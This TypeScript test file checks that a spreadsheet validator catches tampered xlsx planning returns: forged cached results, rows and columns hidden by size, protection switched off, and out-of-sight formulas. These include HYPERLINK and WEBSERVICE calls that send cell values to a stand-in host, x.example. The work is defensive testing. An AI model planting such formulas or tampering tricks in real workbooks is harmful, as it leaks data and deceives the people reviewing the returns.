/**
 * Issue 11, tried again as a hostile county with variants the first cases did not cover (each found passing before
 * it was fixed): a cached 完成进度 or 序时进度 forged while the status is left uncached, a 说明 held by a formula,
 * rows and columns hidden by size instead of the hidden flag, protection switched off in place, dangerous formulas
 * where no cell shows them (under a merge, in a conditional format or a validation), and a visible _meta. Each is a
 * clean return edited at the XML level (packageEdit.ts), checked as `plan-indicators check` checks a file.
 */
import { strFromU8, unzipSync } from 'fflate';
import { placeA1 } from '../../src/core/form';
import { annotateWorkbook } from '../../src/xlsx/annotateWorkbook';
import { checkBytes, filledReturn, findingsOf, formsOf, type Form } from '../support/hardening/damagedReturns';
import { PackageEdit } from '../support/hardening/packageEdit';
import { expectFound, type Variant } from '../support/hardening/variants';

const HIGHTECH = 'yuecheng-2021-2025.hightech-enterprises';
const esc = (text: string) => text.replace(/&/gu, '&amp;').replace(/</gu, '&lt;').replace(/"/gu, '&quot;');

let form: Form;
let clean: Uint8Array;

beforeAll(async () => {
  [form] = formsOf(false) as [Form];
  clean = await filledReturn(false);
});

/** The formula the generated form has in a cell of the sheet (its <f> text, unescaped). */
function formulaAt(pkg: PackageEdit, f: Form, address: string): string {
  const match = new RegExp(`<c r="${address}"[^>]*><f>([^<]*)</f>`, 'u').exec(pkg.text(pkg.sheetPart(f.name)));
  if (match?.[1] === undefined) throw new Error(`no formula in ${address}`);
  return match[1];
}

/** Keeps the form's formula in `address` and stores `cached` as its result. */
function forgeCache(pkg: PackageEdit, f: Form, address: string, cached: string): void {
  const formula = formulaAt(pkg, f, address);
  pkg.change(pkg.sheetPart(f.name), (xml) => xml.replace(new RegExp(`(<c r="${address}"[^>]*>)<f>[^<]*</f>(?:<v>[^<]*</v>)?</c>`, 'u'), `$1<f>${formula}</f><v>${cached}</v></c>`));
}

const VARIANTS: Variant[] = [
  {
    title: '序时进度 cached as 0 % while the status is left uncached',
    edit: (pkg, f) => forgeCache(pkg, f, f.at(HIGHTECH, f.map.columns.timeShare), '0'),
    code: 'structure.cached_result_forged', cell: (f) => f.at(HIGHTECH, f.map.columns.timeShare),
  },
  {
    title: '完成进度 cached as 100 % over a value far below the target, the status left uncached',
    edit: (pkg, f) => {
      pkg.cell(f.name, f.actual(HIGHTECH, 2025), '<v>100</v>', ' s="13"');
      forgeCache(pkg, f, f.at(HIGHTECH, f.map.columns.completion), '1');
    },
    code: 'structure.cached_result_forged', cell: (f) => f.at(HIGHTECH, f.map.columns.completion),
  },
  {
    title: 'a 说明 that is a formula (="无") cached as a sentence, under a warning',
    edit: (pkg, f) => {
      pkg.cell(f.name, f.actual(HIGHTECH, 2025), '<v>6500</v>', ' s="13"');
      pkg.cell(f.name, f.at(HIGHTECH, f.map.columns.explanation), `<f>${esc('"无"')}</f><v>因统计口径调整，新增了培育企业</v>`, ' t="str"');
    },
    code: 'check.explanation_formula', cell: (f) => f.at(HIGHTECH, f.map.columns.explanation),
  },
  {
    title: 'a row of the table 0.1 pt high (not flagged hidden)',
    edit: (pkg, f) => pkg.change(pkg.sheetPart(f.name), (xml) => xml.replace(`<row r="${f.row(HIGHTECH) + 1}" `, `<row r="${f.row(HIGHTECH) + 1}" ht="0.1" customHeight="1" `)),
    code: 'form.row_hidden', cell: (f) => f.rowRef(HIGHTECH),
  },
  {
    title: 'every row hidden by default (sheetFormatPr zeroHeight)',
    edit: (pkg, f) => pkg.change(pkg.sheetPart(f.name), (xml) => xml.replace('<sheetFormatPr ', '<sheetFormatPr zeroHeight="1" ')),
    code: 'form.row_hidden', cell: (f) => f.rowRef(HIGHTECH),
  },
  {
    title: 'the reporting year column 0.1 characters wide (not flagged hidden)',
    edit: (pkg, f) => {
      const col = (f.map.columns.actuals[2025] ?? -1) + 1;
      pkg.change(pkg.sheetPart(f.name), (xml) => xml.replace(/<col min="(\d+)" max="(\d+)" width="8" customWidth="1"\/>/u, (_whole, min: string) => (
        `<col min="${min}" max="${col - 1}" width="8" customWidth="1"/><col min="${col}" max="${col}" width="0.1" customWidth="1"/>`)));
    },
    code: 'form.columns_hidden',
  },
  {
    title: 'the protection switched off in place (sheetProtection sheet="0")',
    edit: (pkg, f) => pkg.change(pkg.sheetPart(f.name), (xml) => xml.replace('<sheetProtection sheet="1"', '<sheetProtection sheet="0"')),
    code: 'structure.protection_removed',
  },
  {
    title: 'a HYPERLINK formula under a merge on the cover',
    // The cover merges B3:C3 (its value cell): C3 is under the merge, where no one sees it.
    edit: (pkg) => pkg.change(pkg.sheetPart('填报说明'), (xml) => {
      if (!xml.includes('<mergeCell ref="B3:C3"/>')) throw new Error('the cover no longer merges B3:C3');
      return xml.replace(/<c r="C3"[^>]*?(?:\/>|>.*?<\/c>)/su, `<c r="C3"><f>${esc('HYPERLINK("http://x.example/?"&B3,"")')}</f><v>0</v></c>`);
    }),
    code: 'dangerous.formula_elsewhere',
  },
  {
    title: 'a data validation list drawn from another workbook',
    edit: (pkg, f) => pkg.change(pkg.sheetPart(f.name), (xml) => xml.replace('<formula1>50</formula1>', `<formula1>${esc('[1]台账!$A$1:$A$3')}</formula1>`)),
    code: 'dangerous.formula_elsewhere',
  },
  {
    title: 'a conditional format calling WEBSERVICE with the entries',
    edit: (pkg, f) => pkg.change(pkg.sheetPart(f.name), (xml) => xml.replace(/<formula>\$([A-Z]+)8=&quot;滞后&quot;<\/formula>/u, `<formula>${esc('_xlfn.WEBSERVICE("http://x.example/?"&$M8)="1"')}</formula>`)),
    code: 'dangerous.formula_elsewhere',
  },
  {
    title: 'a number format with a scaling comma (0, shows 560 over 560000)',
    edit: (pkg, f) => pkg.cell(f.name, f.actual(HIGHTECH, 2025), '<v>560000</v>', ` s="${pkg.style('0,')}"`),
    code: 'form.number_format_hides', cell: (f) => f.actual(HIGHTECH, 2025),
  },
  {
    title: 'the _meta sheet made visible',
    edit: (pkg) => pkg.change('xl/workbook.xml', (xml) => xml.replace('name="_meta" state="veryHidden"', 'name="_meta" state="visible"')),
    code: 'form.metadata_visible',
  },
];

describe('variants that passed unseen before, each found', () => {
  it.each(VARIANTS.map((v) => [v.title, v] as const))('%s', async (_title, v) => {
    await expectFound(clean, form, v);
  });

  it('the 说明 formula explains nothing: the warning it stood under stays unexplained', async () => {
    const pkg = new PackageEdit(clean);
    VARIANTS[2]?.edit(pkg, form);
    const findings = findingsOf(await checkBytes(pkg.bytes()));
    const warning = findings.find((finding) => finding.severity === 'warning' && finding.ref !== null && placeA1(finding.ref) === form.actual(HIGHTECH, 2025));
    expect(warning?.explained).toBe(false);
  });

  it('none of the unseen dangerous formulas travels into the annotated copy', async () => {
    const pkg = new PackageEdit(clean);
    for (const v of VARIANTS.filter((variant) => variant.code === 'dangerous.formula_elsewhere')) v.edit(pkg, form);
    const bytes = pkg.bytes();
    const annotated = unzipSync(await annotateWorkbook(bytes, findingsOf(await checkBytes(bytes)), 'zh-CN'));
    const carried = Object.entries(annotated).filter(([name, part]) => /^xl\/(?:worksheets\/|workbook\.xml)/u.test(name) && /HYPERLINK|WEBSERVICE|\[1\]/u.test(strFromU8(part)));
    expect(carried.map(([name]) => name)).toEqual([]);
  });
});
